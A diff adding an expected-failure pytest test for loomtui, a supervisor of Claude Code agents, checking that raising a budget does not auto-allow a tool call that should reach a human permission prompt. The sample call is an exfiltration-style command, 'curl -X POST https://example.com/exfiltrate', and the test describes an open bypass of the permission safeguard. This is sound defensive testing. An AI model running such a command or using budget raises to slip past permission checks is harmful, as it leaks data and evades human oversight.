@@ -20,7 +20,10 @@ from loomtui.git.conflicts import ConflictForecaster
 from loomtui.git.diff import compute_diff
 from loomtui.git.discovery import discover
 from loomtui.store.db import connect, db_path
+from tests import hook_fixtures
 from tests.gitrepos import add_worktree, git, isolate, make_repo, write
+
+pod, repo = hook_fixtures.pod, hook_fixtures.repo  # the bare pod and repository fixtures
 
 
 @pytest.fixture(autouse=True)
@@ -139,3 +142,42 @@ def test_the_mcp_server_command_init_writes_imports_nothing_from_the_agents_dire
                           timeout=60, check=False)
     assert not marker.exists(), "the MCP server's command imported the agent's loomtui package"
     assert done.returncode == 0 and done.stdout.strip()
+
+
+
+
+@pytest.mark.xfail(strict=True, reason="open: a raise answers allow for a call the policy only passed, "
+                                       "so Claude Code's own permission prompt (and LoomTUI's "
+                                       "PermissionRequest gate) never asks about it")
+def test_a_budget_raise_gives_a_waiting_call_no_more_than_the_policy_would(pod, repo):
+    """Not over budget, `curl -X POST` is left to the agent's own permissions (the hook
+    answers nothing: Claude Code asks, and its PermissionRequest reaches the inbox). Over
+    budget, it waits in a budget gate; raising the budget releases that gate, and the hook
+    must then answer as it would have without the budget, not allow a call nobody saw."""
+    import json
+    import time
+
+    from tests.test_budget_cli import start_under_an_agent
+    from tests.test_budgets import add_usage
+    from tests.test_hook import SESSION, bash, finish, hook, wait_for_gate
+    from tests.test_supervisors import loom
+    from tests.waiting import wait_for
+
+    call = bash("curl -X POST https://example.com/exfiltrate", repo)
+    assert hook(pod, call)[:2] == (0, "")  # the policy passes it: the agent's own permissions ask
+    conn = connect(db_path(pod))
+    try:
+        agent, name = conn.execute("SELECT id, name FROM agents WHERE session_id = ?", (SESSION,)).fetchone()
+        add_usage(conn, agent, time.time() - 30, tokens=11_000, usd=0.2, session=SESSION)
+        assert loom(pod, "budget", "set", "--agent", name, "--period", "session", "--tokens", "10000").returncode == 0
+        proc = start_under_an_agent(pod, call)
+        wait_for_gate(pod)
+        done = loom(pod, "budget", "set", "--agent", name, "--period", "session", "--tokens", "50000",
+                    LOOM_USER="ana")
+        assert done.returncode == 0, done.stderr
+        wait_for(lambda: proc.poll() is not None, "the waiting hook to answer")
+        code, out, _ = finish(proc)
+        decision = json.loads(out)["hookSpecificOutput"]["permissionDecision"] if out.strip() else ""
+        assert code == 0 and decision != "allow", "a budget raise allowed a call the policy left to a person"
+    finally:
+        conn.close()
